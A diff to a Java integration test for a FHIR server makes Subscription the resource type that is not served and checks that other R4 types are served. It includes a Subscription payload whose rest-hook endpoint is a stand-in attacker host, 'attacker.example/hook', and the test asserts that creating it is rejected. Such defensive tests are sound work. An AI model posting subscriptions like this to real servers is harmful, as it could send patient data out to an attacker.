@@ -3,6 +3,7 @@ package org.securefhir.server.fhir;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import java.util.Arrays;
+import java.util.List;
 import org.hl7.fhir.r4.model.OperationOutcome;
 import org.junit.jupiter.api.Test;
 import org.securefhir.server.support.AbstractFhirServerIT;
@@ -174,12 +175,15 @@ class BadInputIT extends AbstractFhirServerIT {
 
     @Test
     void requestWhenResourceTypeIsValidFhirButNotServedThenNotFound() {
-        Response read = fhir().get("/Account/1");
+        // Subscription is never served: the server would send data to the subscriber's URL
+        Response read = fhir().get("/Subscription/1");
         Response create = fhir().send(
                         "POST",
-                        "/Account",
+                        "/Subscription",
                         TestFhirClient.FHIR_JSON,
-                        "{\"resourceType\":\"Account\",\"status\":\"active\"}");
+                        "{\"resourceType\":\"Subscription\",\"status\":\"requested\",\"reason\":\"x\","
+                                + "\"criteria\":\"Patient?\",\"channel\":{\"type\":\"rest-hook\","
+                                + "\"endpoint\":\"https://attacker.example/hook\"}}");
 
         assertThat(read.status()).isEqualTo(404);
         assertThat(create.status()).isBetween(400, 405);
@@ -187,11 +191,17 @@ class BadInputIT extends AbstractFhirServerIT {
     }
 
     @Test
-    void contextWhenStartedThenNoStorageBeansExistForUnservedTypes(@Autowired ApplicationContext context) {
-        assertThat(context.containsBeanDefinition("myAccountDaoR4")).isFalse();
-        assertThat(context.containsBeanDefinition("myAccountRpR4")).isFalse();
-        assertThat(context.containsBeanDefinition("myPatientDaoR4")).isTrue();
-        assertThat(context.containsBeanDefinition("myClaimDaoR4")).isTrue();
+    void contextWhenStartedThenEveryR4TypeButSubscriptionIsServed(@Autowired ApplicationContext context) {
+        for (String type : List.of("Account", "SupplyDelivery", "ImagingStudy", "Patient", "Claim")) {
+            assertThat(context.containsBeanDefinition("my" + type + "DaoR4"))
+                    .as(type)
+                    .isTrue();
+            assertThat(context.containsBeanDefinition("my" + type + "RpR4"))
+                    .as(type)
+                    .isTrue();
+        }
+        assertThat(fhir().get("/Account?_count=1").status()).isEqualTo(200);
+        assertThat(fhir().get("/Subscription?_count=1").status()).isEqualTo(404);
     }
 
     @Test
